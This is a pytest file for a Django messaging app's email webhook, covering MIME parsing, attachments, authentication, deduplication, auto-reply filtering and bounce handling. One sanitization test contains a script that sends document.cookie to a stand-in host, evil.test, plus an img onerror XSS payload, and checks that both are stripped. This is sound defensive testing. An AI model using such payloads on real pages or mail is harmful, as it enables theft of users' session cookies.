"""Raw MIME posted to an email channel's webhook URL, end to end.

Each mail is built as a mail client builds it and posted as
`message/rfc822` with the channel's bearer secret; the test reads what the
inbox recorded (messages, attachments, statuses) from the database.
"""

from __future__ import annotations

import pytest

from messaging.models import Attachment, Contact, Message
from messaging.services import deliver_message, send_message
from tests.channels_app.providers.email_support import (
    CUSTOMER,
    FROM_EMAIL,
    PDF,
    PNG,
    bearer,
    customer_mail,
    email_config,
)
from tests.channels_app.providers.smtp_server import SmtpTestServer

pytestmark = pytest.mark.django_db

QUOTED_REPLY = """Yes, please send it to my office address.

Ana

On Mon, 1 Jan 2024 at 09:00, Acme Support <support@acme.test> wrote:
> Should we ship it to your home or office?
>
> Acme Support
"""


@pytest.fixture
def email_channel(provider_channel):
    return provider_channel("email", email_config())


@pytest.fixture
def post_mail(post_webhook):
    def post(channel, raw: bytes, headers=None):
        return post_webhook(
            channel,
            raw,
            content_type="message/rfc822",
            headers=bearer() if headers is None else headers,
        )

    return post


def test_a_mail_becomes_a_message_with_the_quoted_history_trimmed(email_channel, post_mail):
    raw = customer_mail(
        QUOTED_REPLY,
        message_id="<reply-1@example.com>",
        subject="Re: Shipping address",
        headers={"In-Reply-To": "<msg_x@acme.test>", "References": "<msg_x@acme.test>"},
    )

    response = post_mail(email_channel, raw)

    assert response.status_code == 200
    assert response.json() == {"received": True}
    message = Message.objects.get()
    assert message.direction == "inbound"
    assert message.provider_message_id == "<reply-1@example.com>"
    assert message.from_address == CUSTOMER
    assert message.content == {
        "type": "text",
        "text": "Yes, please send it to my office address.\n\nAna",
    }
    assert message.metadata["subject"] == "Re: Shipping address"
    assert message.metadata["messageId"] == "<reply-1@example.com>"
    assert message.metadata["inReplyTo"] == "<msg_x@acme.test>"
    assert message.metadata["references"] == ["<msg_x@acme.test>"]
    assert message.metadata["to"] == [FROM_EMAIL]
    contact = Contact.objects.get()
    assert contact.email == CUSTOMER
    assert contact.name == "Ana Souza"


def test_an_encoded_display_name_and_upper_case_address_are_read(email_channel, post_mail):
    raw = customer_mail("Olá", sender="Joao@Example.COM", name="João Ñandú")
    assert post_mail(email_channel, raw).status_code == 200
    message = Message.objects.get()
    assert message.from_address == "joao@example.com"
    assert Contact.objects.get().name == "João Ñandú"
    assert message.content["text"] == "Olá"


def test_an_html_only_mail_is_reduced_to_safe_text(email_channel, post_mail):
    html = """<html><head><style>p { color: red }</style>
    <script>document.location='https://evil.test/?c='+document.cookie</script></head>
    <body><p>Hello&nbsp;team,</p><p>My order <b>#42</b> &amp; the invoice are
    <a href="https://shop.example.com/orders/42">here</a>.</p>
    <img src="x" onerror="alert(1)">
    <div class="gmail_quote">On Mon, Acme wrote:<blockquote>Old text</blockquote></div>
    </body></html>"""
    raw = customer_mail(None, html=html)

    assert post_mail(email_channel, raw).status_code == 200

    text = Message.objects.get().content["text"]
    assert text == (
        "Hello team,\n\nMy order #42 & the invoice are here (https://shop.example.com/orders/42)."
    )
    assert "<" not in text and "script" not in text and "evil" not in text
    assert "Old text" not in text


def test_attachments_are_stored_with_the_message(email_channel, post_mail):
    raw = customer_mail(
        "Photo and invoice attached.",
        attachments=[(PNG, "image/png", "damaged box.png"), (PDF, "application/pdf", "inv.pdf")],
    )

    assert post_mail(email_channel, raw).status_code == 200

    message = Message.objects.get()
    assert message.content["type"] == "text"
    assert message.content["text"] == "Photo and invoice attached."
    attachments = {a.filename: a for a in Attachment.objects.filter(message=message)}
    assert set(attachments) == {"damaged box.png", "inv.pdf"}
    png = attachments["damaged box.png"]
    assert png.mime_type == "image/png" and png.size == len(PNG)
    assert png.file.read() == PNG
    assert attachments["inv.pdf"].mime_type == "application/pdf"


def test_a_mail_that_is_only_a_file_is_a_media_message(email_channel, post_mail):
    raw = customer_mail("", attachments=[(PNG, "image/png", "photo.png")])

    assert post_mail(email_channel, raw).status_code == 200

    message = Message.objects.get()
    assert message.content["type"] == "image"
    attachment = Attachment.objects.get(message=message)
    assert message.content["url"].endswith(attachment.url)


def test_a_very_long_mail_is_cut_to_the_text_limit(email_channel, post_mail):
    raw = customer_mail("word " * 2000)
    assert post_mail(email_channel, raw).status_code == 200
    message = Message.objects.get()
    assert 4000 < len(message.content["text"]) <= 4096
    assert message.content["text"].endswith("word…")
    assert message.metadata["truncated"] is True


@pytest.mark.parametrize(
    "headers",
    [
        {"Authorization": "Bearer not-the-secret"},
        {"Authorization": "Basic bWltZTpzZWNyZXQ="},
        {},
    ],
    ids=["wrong", "not-bearer", "missing"],
)
def test_a_request_without_the_bearer_secret_is_refused(email_channel, post_mail, headers):
    response = post_mail(email_channel, customer_mail(), headers=headers)
    assert response.status_code == 401
    assert Message.objects.count() == 0
    assert Contact.objects.count() == 0


def test_a_channel_without_a_webhook_secret_takes_no_mail(provider_channel, post_mail):
    config = email_config()
    del config["webhookSecret"]
    channel = provider_channel("email", config)
    assert post_mail(channel, customer_mail(), headers=bearer("")).status_code == 401
    assert post_mail(channel, customer_mail(), headers=bearer("anything")).status_code == 401
    assert Message.objects.count() == 0


def test_the_same_mail_five_times_is_one_message(email_channel, post_mail):
    raw = customer_mail("Retry me")
    for _ in range(5):
        assert post_mail(email_channel, raw).status_code == 200
    assert Message.objects.count() == 1
    assert Message.objects.get().conversation.message_count == 1


def test_a_mail_without_message_id_is_deduped_on_its_bytes(email_channel, post_mail):
    raw = customer_mail("No id here", message_id=None)
    for _ in range(3):
        assert post_mail(email_channel, raw).status_code == 200
    message = Message.objects.get()
    assert message.provider_message_id.endswith("@no-message-id.invalid>")
    other = customer_mail("A different mail", message_id=None)
    assert post_mail(email_channel, other).status_code == 200
    assert Message.objects.count() == 2


@pytest.mark.parametrize(
    "headers",
    [
        {"Auto-Submitted": "auto-replied"},
        {"Auto-Submitted": "auto-generated"},
        {"Precedence": "bulk"},
        {"Precedence": "auto_reply"},
        {"X-Autoreply": "yes"},
    ],
)
def test_automatic_replies_are_acknowledged_and_ignored(email_channel, post_mail, headers):
    raw = customer_mail("I am out of office until Monday.", headers=headers)
    response = post_mail(email_channel, raw)
    assert response.status_code == 200
    assert Message.objects.count() == 0


def test_our_own_mail_seen_again_is_ignored(email_channel, post_mail):
    raw = customer_mail("Copy of what we sent", sender=FROM_EMAIL, name="Acme Support")
    assert post_mail(email_channel, raw).status_code == 200
    assert Message.objects.count() == 0


@pytest.mark.parametrize("body", [b"", b"just some bytes, no headers"])
def test_a_body_that_is_no_mail_is_a_400(email_channel, post_mail, body):
    response = post_mail(email_channel, body)
    assert response.status_code == 400
    assert Message.objects.count() == 0


def _dsn(original_id: str, action: str = "failed") -> bytes:
    """A bounce as Postfix writes it (RFC 3464 multipart/report)."""
    return (
        "From: MAILER-DAEMON@mx.example.com (Mail Delivery System)\r\n"
        f"To: {FROM_EMAIL}\r\n"
        "Subject: Undelivered Mail Returned to Sender\r\n"
        "Message-ID: <20240102100000.ABC@mx.example.com>\r\n"
        "Auto-Submitted: auto-replied\r\n"
        "MIME-Version: 1.0\r\n"
        'Content-Type: multipart/report; report-type=delivery-status; boundary="B1"\r\n'
        "\r\n"
        "--B1\r\n"
        "Content-Type: text/plain; charset=us-ascii\r\n"
        "\r\n"
        "I'm sorry to have to inform you that your message could not be delivered.\r\n"
        "\r\n"
        "--B1\r\n"
        "Content-Type: message/delivery-status\r\n"
        "\r\n"
        "Reporting-MTA: dns; mx.example.com\r\n"
        "\r\n"
        f"Final-Recipient: rfc822; {CUSTOMER}\r\n"
        f"Action: {action}\r\n"
        "Status: 5.1.1\r\n"
        "Diagnostic-Code: smtp; 550 5.1.1 <ana@example.com>: Recipient address\r\n"
        "    rejected: User unknown in virtual mailbox table\r\n"
        "\r\n"
        "--B1\r\n"
        "Content-Type: text/rfc822-headers\r\n"
        "\r\n"
        f"From: Acme Support <{FROM_EMAIL}>\r\n"
        f"To: {CUSTOMER}\r\n"
        "Subject: Your order\r\n"
        f"Message-ID: {original_id}\r\n"
        "\r\n"
        "--B1--\r\n"
    ).encode()


def test_a_bounce_fails_the_message_it_reports_on(workspace, provider_channel, post_mail):
    with SmtpTestServer() as smtp:
        config = email_config(smtp_port=smtp.port)
        del config["smtpUsername"]
        channel = provider_channel("email", config)
        sent = send_message(
            workspace=workspace,
            channel=channel,
            to=CUSTOMER,
            content={"type": "text", "text": "Hi"},
        )
        assert deliver_message(message_pk=sent.pk).ok
    sent.refresh_from_db()
    assert sent.status == "sent"

    assert post_mail(channel, _dsn(sent.provider_message_id)).status_code == 200

    sent.refresh_from_db()
    assert sent.status == "failed"
    assert sent.failure_code == "SMTP_5.1.1"
    assert sent.failure_reason == (
        "550 5.1.1 <ana@example.com>: Recipient address rejected: "
        "User unknown in virtual mailbox table"
    )
    # The bounce itself is no conversation message.
    assert Message.objects.filter(direction="inbound").count() == 0


def test_a_bounce_about_someone_elses_mail_changes_nothing(email_channel, post_mail):
    assert post_mail(email_channel, _dsn("<other@elsewhere.test>")).status_code == 200
    assert Message.objects.count() == 0
